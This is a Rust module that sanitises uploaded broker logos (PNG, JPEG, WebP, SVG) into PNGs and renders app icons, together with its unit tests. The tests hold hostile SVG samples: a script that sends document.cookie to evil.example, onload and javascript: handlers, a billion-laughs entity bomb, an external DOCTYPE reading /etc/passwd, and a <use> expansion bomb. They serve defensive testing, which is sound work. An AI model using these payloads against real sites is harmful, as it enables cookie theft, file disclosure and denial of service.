//! The broker's logo and app icons as PNG. A logo upload becomes a PNG of at most 512 px:
//! photos pass the sanitizer first, SVGs are rasterised without fetching anything, so no
//! script, event handler or external reference survives. Icons show the logo on white, or
//! the broker's initials on the primary colour when there is no logo.

use std::io::Cursor;

use ab_glyph::{Font, FontRef, PxScale, ScaleFont};
use image::imageops::{self, FilterType};
use image::{DynamicImage, ImageFormat, Rgba, RgbaImage};

use super::{initials, rgb, text_on};
use crate::error::Problem;

/// The longer side of a stored logo, and of the largest icon.
pub const LOGO_MAX_SIDE: u32 = 512;
/// What a logo upload may weigh.
pub const LOGO_MAX_BYTES: usize = 5 * 1024 * 1024;

/// The icons a broker's site offers, by file name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Icon {
    /// For the manifest (`purpose: any`), 192 and 512 px.
    Any(u32),
    /// For the manifest (`purpose: maskable`): everything inside the central safe circle.
    Maskable,
    /// iOS home screen, 180 px, no transparency.
    AppleTouch,
    /// The browser tab, 32 px.
    Favicon,
}

impl Icon {
    pub fn from_file_name(name: &str) -> Option<Self> {
        match name {
            "icon-192.png" => Some(Icon::Any(192)),
            "icon-512.png" => Some(Icon::Any(512)),
            "maskable-512.png" => Some(Icon::Maskable),
            "apple-touch-icon.png" => Some(Icon::AppleTouch),
            "favicon-32.png" => Some(Icon::Favicon),
            _ => None,
        }
    }

    pub fn size(self) -> u32 {
        match self {
            Icon::Any(size) => size,
            Icon::Maskable => 512,
            Icon::AppleTouch => 180,
            Icon::Favicon => 32,
        }
    }

    /// How much of the side the logo or the initials may fill.
    fn content_share(self) -> f32 {
        match self {
            // The maskable safe zone is a circle of 80 % of the side; a square inside it is 56 %.
            Icon::Maskable => 0.56,
            Icon::Favicon => 1.0,
            Icon::Any(_) | Icon::AppleTouch => 0.8,
        }
    }
}

/// Turns an uploaded logo (PNG, JPEG, WebP or SVG) into the PNG Folio stores.
pub fn logo_from_upload(bytes: &[u8]) -> Result<Vec<u8>, Problem> {
    if bytes.len() > LOGO_MAX_BYTES {
        return Err(Problem::FileTooLarge);
    }
    let image = if looks_like_svg(bytes) { rasterize_svg(bytes)? } else { decode_photo(bytes)? };
    Ok(png(&fit(image, LOGO_MAX_SIDE)))
}

/// An icon of the broker: the stored logo on white, else the initials of `name` on `primary`.
pub fn icon(icon: Icon, name: &str, primary: &str, logo: Option<&[u8]>) -> Vec<u8> {
    let size = icon.size();
    // Reduced to whole pixels so the content sits centred.
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss)]
    let content = ((size as f32) * icon.content_share()).round() as u32;
    let logo = logo.and_then(|bytes| image::load_from_memory_with_format(bytes, ImageFormat::Png).ok());
    let canvas = if let Some(logo) = logo {
        let mut canvas = RgbaImage::from_pixel(size, size, Rgba([255, 255, 255, 255]));
        let logo = fit(logo.to_rgba8(), content);
        let x = i64::from((size - logo.width()) / 2);
        let y = i64::from((size - logo.height()) / 2);
        imageops::overlay(&mut canvas, &logo, x, y);
        canvas
    } else {
        let [r, g, b] = rgb(primary).unwrap_or([29, 78, 216]);
        let mut canvas = RgbaImage::from_pixel(size, size, Rgba([r, g, b, 255]));
        let ink = rgb(text_on(primary)).unwrap_or([255, 255, 255]);
        let letters = initials(name);
        let share = if letters.chars().count() > 1 { 0.42 } else { 0.5 };
        #[allow(clippy::cast_precision_loss)]
        draw_centred(&mut canvas, &letters, content as f32 * share / 0.8, ink);
        canvas
    };
    png(&canvas)
}

/// A PNG without any metadata chunks.
fn png(image: &RgbaImage) -> Vec<u8> {
    let mut out = Vec::new();
    // Encoding an in-memory RGBA image into a Vec cannot fail.
    let _ = DynamicImage::ImageRgba8(image.clone()).write_to(&mut Cursor::new(&mut out), ImageFormat::Png);
    out
}

/// Scales down (never up) so the longer side is at most `max_side`.
fn fit(image: RgbaImage, max_side: u32) -> RgbaImage {
    let (w, h) = image.dimensions();
    if w.max(h) <= max_side {
        return image;
    }
    let scale = f64::from(max_side) / f64::from(w.max(h));
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let (nw, nh) =
        (((f64::from(w) * scale).round() as u32).max(1), ((f64::from(h) * scale).round() as u32).max(1));
    imageops::resize(&image, nw, nh, FilterType::Lanczos3)
}

fn looks_like_svg(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(1024)];
    let text = String::from_utf8_lossy(head);
    let text = text.trim_start_matches('\u{feff}').trim_start().to_ascii_lowercase();
    ["<?xml", "<svg", "<!--", "<!doctype"].iter().any(|start| text.starts_with(start))
        && text.contains("<svg")
}

/// A photo-type logo: the sanitizer strips it and proves it decodes; then it is turned upright.
fn decode_photo(bytes: &[u8]) -> Result<RgbaImage, Problem> {
    let limits = sanitizer::Limits {
        max_bytes: LOGO_MAX_BYTES,
        max_pixels: 16_000_000,
        max_dimension: 8_000,
        ..sanitizer::Limits::default()
    };
    let clean = sanitizer::sanitize(bytes, &limits).map_err(crate::documents::http::refusal)?;
    let format = match clean.media_type {
        sanitizer::MediaType::Jpeg => ImageFormat::Jpeg,
        sanitizer::MediaType::Png => ImageFormat::Png,
        sanitizer::MediaType::Webp => ImageFormat::WebP,
    };
    let mut image =
        image::load_from_memory_with_format(&clean.bytes, format).map_err(|_| Problem::FileInvalid)?;
    let orientation = u8::try_from(clean.orientation).ok().and_then(image::metadata::Orientation::from_exif);
    if let Some(orientation) = orientation {
        image.apply_orientation(orientation);
    }
    Ok(image.to_rgba8())
}

/// Draws an SVG into pixels. Nothing outside the file is read: no images by path or URL,
/// no embedded images, no system fonts (text uses the embedded DejaVu Sans).
/// A DOCTYPE (and with it entities, internal or external) is refused before parsing; a
/// drawing with more than [`SVG_MAX_NODES`] elements (after `<use>` is expanded) is refused
/// before drawing. The upload also runs under a time limit (`http.rs`).
fn rasterize_svg(bytes: &[u8]) -> Result<RgbaImage, Problem> {
    use resvg::{tiny_skia, usvg};
    let declares = |word: &[u8]| bytes.windows(word.len()).any(|w| w.eq_ignore_ascii_case(word));
    if declares(b"<!doctype") || declares(b"<!entity") {
        return Err(Problem::SvgUnsafe);
    }
    let mut options = usvg::Options {
        resources_dir: None,
        font_family: "DejaVu Sans".to_owned(),
        image_href_resolver: usvg::ImageHrefResolver {
            resolve_data: Box::new(|_, _, _| None),
            resolve_string: Box::new(|_, _| None),
        },
        ..usvg::Options::default()
    };
    options.fontdb_mut().load_font_data(dejavu::sans::regular().to_vec());
    options.fontdb_mut().load_font_data(dejavu::sans::bold().to_vec());
    let tree = usvg::Tree::from_data(bytes, &options).map_err(|_| Problem::FileInvalid)?;
    if svg_nodes(tree.root()) > SVG_MAX_NODES {
        return Err(Problem::SvgTooComplex);
    }
    let size = tree.size();
    #[allow(clippy::cast_precision_loss)]
    let scale = LOGO_MAX_SIDE as f32 / size.width().max(size.height());
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let (w, h) = (
        ((size.width() * scale).round() as u32).clamp(1, LOGO_MAX_SIDE),
        ((size.height() * scale).round() as u32).clamp(1, LOGO_MAX_SIDE),
    );
    let mut pixmap = tiny_skia::Pixmap::new(w, h).ok_or(Problem::FileInvalid)?;
    resvg::render(&tree, tiny_skia::Transform::from_scale(scale, scale), &mut pixmap.as_mut());
    RgbaImage::from_raw(w, h, pixmap.take_demultiplied()).ok_or(Problem::FileInvalid)
}

/// How many elements an SVG logo may draw: plenty for a logo, too few to keep a server busy.
const SVG_MAX_NODES: usize = 10_000;

/// The elements of a drawing, counted without recursion (nesting may be deep).
fn svg_nodes(root: &resvg::usvg::Group) -> usize {
    let mut count = 0;
    let mut groups = vec![root];
    while let Some(group) = groups.pop() {
        for node in group.children() {
            count += 1;
            if let resvg::usvg::Node::Group(g) = node {
                groups.push(g);
            }
        }
    }
    count
}

/// Draws `text` in DejaVu Sans Bold, `px` high, centred on its ink (not its baseline).
fn draw_centred(canvas: &mut RgbaImage, text: &str, px: f32, [r, g, b]: [u8; 3]) {
    let Ok(font) = FontRef::try_from_slice(dejavu::sans::bold()) else { return };
    let scale = PxScale::from(px);
    let scaled = font.as_scaled(scale);
    let mut caret = 0.0;
    let mut previous = None;
    let mut outlines = Vec::new();
    for c in text.chars() {
        let id = font.glyph_id(c);
        if let Some(prev) = previous {
            caret += scaled.kern(prev, id);
        }
        let glyph = id.with_scale_and_position(scale, ab_glyph::point(caret, scaled.ascent()));
        caret += scaled.h_advance(id);
        previous = Some(id);
        outlines.extend(font.outline_glyph(glyph));
    }
    let Some(first) = outlines.first().map(ab_glyph::OutlinedGlyph::px_bounds) else { return };
    let bounds = outlines.iter().map(ab_glyph::OutlinedGlyph::px_bounds).fold(first, |a, b| ab_glyph::Rect {
        min: ab_glyph::point(a.min.x.min(b.min.x), a.min.y.min(b.min.y)),
        max: ab_glyph::point(a.max.x.max(b.max.x), a.max.y.max(b.max.y)),
    });
    #[allow(clippy::cast_precision_loss)]
    let (dx, dy) = (
        (canvas.width() as f32 - bounds.width()) / 2.0 - bounds.min.x,
        (canvas.height() as f32 - bounds.height()) / 2.0 - bounds.min.y,
    );
    for outline in &outlines {
        let glyph_bounds = outline.px_bounds();
        outline.draw(|x, y, coverage| {
            #[allow(clippy::cast_precision_loss, clippy::cast_possible_truncation)]
            let (px, py) = (
                (glyph_bounds.min.x + x as f32 + dx).round() as i64,
                (glyph_bounds.min.y + y as f32 + dy).round() as i64,
            );
            let (Ok(px), Ok(py)) = (u32::try_from(px), u32::try_from(py)) else { return };
            if px >= canvas.width() || py >= canvas.height() {
                return;
            }
            let pixel = canvas.get_pixel_mut(px, py);
            let coverage = coverage.clamp(0.0, 1.0);
            for (channel, ink) in pixel.0.iter_mut().zip([r, g, b]) {
                #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
                let mixed =
                    (f32::from(ink) * coverage + f32::from(*channel) * (1.0 - coverage)).round() as u8;
                *channel = mixed;
            }
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode(png: &[u8]) -> RgbaImage {
        image::load_from_memory_with_format(png, ImageFormat::Png).unwrap().to_rgba8()
    }

    fn count(image: &RgbaImage, color: [u8; 3]) -> usize {
        image.pixels().filter(|p| p.0[..3] == color && p.0[3] > 0).count()
    }

    #[test]
    fn initials_stand_on_the_primary_colour_in_every_size() {
        for icon_kind in [Icon::Any(192), Icon::Any(512), Icon::Maskable, Icon::AppleTouch, Icon::Favicon] {
            let image = decode(&icon(icon_kind, "Sommer & Partner", "#1d4ed8", None));
            let size = icon_kind.size();
            assert_eq!(image.dimensions(), (size, size));
            assert_eq!(image.get_pixel(0, 0).0, [29, 78, 216, 255], "{icon_kind:?}");
            assert!(count(&image, [255, 255, 255]) > 0, "white letters on blue in {icon_kind:?}");
        }
        // On a pale colour the letters are dark.
        let pale = decode(&icon(Icon::Any(192), "Nordlicht", "#fde047", None));
        assert_eq!(count(&pale, [255, 255, 255]), 0);
        assert!(count(&pale, [15, 23, 42]) > 0);
    }

    #[test]
    fn the_maskable_icon_keeps_its_letters_inside_the_safe_circle() {
        let image = decode(&icon(Icon::Maskable, "WW", "#000000", None));
        let (c, r) = (256.0_f32, 0.4 * 512.0);
        for (x, y, p) in image.enumerate_pixels() {
            #[allow(clippy::cast_precision_loss)]
            let d = ((x as f32 - c).powi(2) + (y as f32 - c).powi(2)).sqrt();
            if p.0[0] > 0 {
                assert!(d <= r, "ink at ({x},{y}) lies outside the safe zone");
            }
        }
    }

    #[test]
    fn a_png_logo_loses_its_text_chunks_and_fits_512() {
        // Red, with a transparent left quarter.
        let logo =
            RgbaImage::from_fn(
                1024,
                256,
                |x, _| if x < 256 { Rgba([0, 0, 0, 0]) } else { Rgba([200, 0, 0, 255]) },
            );
        let mut bytes = png(&logo);
        // A tEXt chunk with a secret, right after IHDR.
        let text = b"tEXtAuthor\0Max Mustermann, Tel. 0171 1234567";
        let mut chunk = u32::try_from(text.len() - 4).unwrap().to_be_bytes().to_vec();
        chunk.extend_from_slice(text);
        chunk.extend_from_slice(&crc32fast::hash(text).to_be_bytes());
        bytes.splice(33..33, chunk);
        assert!(bytes.windows(10).any(|w| w == b"Mustermann"));
        let stored = logo_from_upload(&bytes).unwrap();
        assert!(!stored.windows(10).any(|w| w == b"Mustermann"));
        let image = decode(&stored);
        assert_eq!(image.dimensions(), (512, 128));
        assert_eq!(image.get_pixel(0, 0).0[3], 0, "transparency survives");
    }

    #[test]
    fn a_hostile_svg_becomes_harmless_pixels() {
        let dir = tempfile::tempdir().unwrap();
        let secret = dir.path().join("secret.png");
        std::fs::write(&secret, png(&RgbaImage::from_pixel(8, 8, Rgba([0, 255, 0, 255])))).unwrap();
        let svg = format!(
            r##"<?xml version="1.0"?>
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
                 width="200" height="100" onload="alert(document.cookie)">
              <script>fetch('https://evil.example/?c=' + document.cookie)</script>
              <rect width="200" height="100" fill="#0000ff"/>
              <image x="0" y="0" width="200" height="100" xlink:href="{}"/>
              <image x="0" y="0" width="200" height="100" href="https://evil.example/track.png"/>
              <foreignObject width="200" height="100"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
              <a xlink:href="javascript:alert(1)"><text x="10" y="50" fill="#ffffff">Makler</text></a>
            </svg>"##,
            secret.display()
        );
        let stored = logo_from_upload(svg.as_bytes()).unwrap();
        assert_eq!(&stored[..8], b"\x89PNG\r\n\x1a\n", "the logo is pixels, not SVG");
        for needle in [&b"script"[..], b"onload", b"evil", b"javascript", b"<svg"] {
            assert!(!stored.windows(needle.len()).any(|w| w == needle));
        }
        let image = decode(&stored);
        assert_eq!(image.dimensions(), (512, 256));
        assert!(count(&image, [0, 255, 0]) == 0, "the file on disk was not read");
        assert!(count(&image, [0, 0, 255]) > 1000, "the drawing itself is there");
        assert!(count(&image, [255, 255, 255]) > 0, "and its text, in the embedded font");
    }

    #[test]
    fn other_files_are_refused_with_a_reason() {
        assert_eq!(logo_from_upload(b"%PDF-1.4 ..."), Err(Problem::FileUnsupported));
        assert_eq!(
            logo_from_upload(b"<svg xmlns='http://www.w3.org/2000/svg'><rect"),
            Err(Problem::FileInvalid)
        );
        assert_eq!(logo_from_upload(&vec![0; LOGO_MAX_BYTES + 1]), Err(Problem::FileTooLarge));
    }

    #[test]
    fn svgs_with_a_doctype_or_entities_are_refused() {
        let laughs = r#"<?xml version="1.0"?>
            <!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
            <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&b;</text></svg>"#;
        assert_eq!(logo_from_upload(laughs.as_bytes()), Err(Problem::SvgUnsafe));
        let external =
            r#"<!doctype svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/2000/svg"/>"#;
        assert_eq!(logo_from_upload(external.as_bytes()), Err(Problem::SvgUnsafe));
    }

    #[test]
    fn an_svg_that_expands_into_too_many_elements_is_refused() {
        // 10 rectangles, used 10 times, used 10 times, used 10 times: 10,000 drawn and more.
        let mut svg = String::from(
            r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><defs><g id="l0">"#,
        );
        for _ in 0..10 {
            svg.push_str(r#"<rect width="1" height="1"/>"#);
        }
        svg.push_str("</g>");
        for level in 1..=4 {
            svg += &[
                format!(r#"<g id="l{level}">"#),
                format!(r##"<use xlink:href="#l{}"/>"##, level - 1).repeat(10),
            ]
            .concat();
            svg.push_str("</g>");
        }
        svg.push_str(r##"</defs><use xlink:href="#l4"/></svg>"##);
        assert_eq!(logo_from_upload(svg.as_bytes()), Err(Problem::SvgTooComplex));
    }

    #[test]
    fn the_logo_sits_on_white_in_the_icons() {
        let logo = png(&RgbaImage::from_pixel(400, 100, Rgba([200, 0, 0, 255])));
        let image = decode(&icon(Icon::Any(192), "X", "#000000", Some(&logo)));
        assert_eq!(image.get_pixel(0, 0).0, [255, 255, 255, 255]);
        assert_eq!(image.get_pixel(96, 96).0, [200, 0, 0, 255]);
    }
}
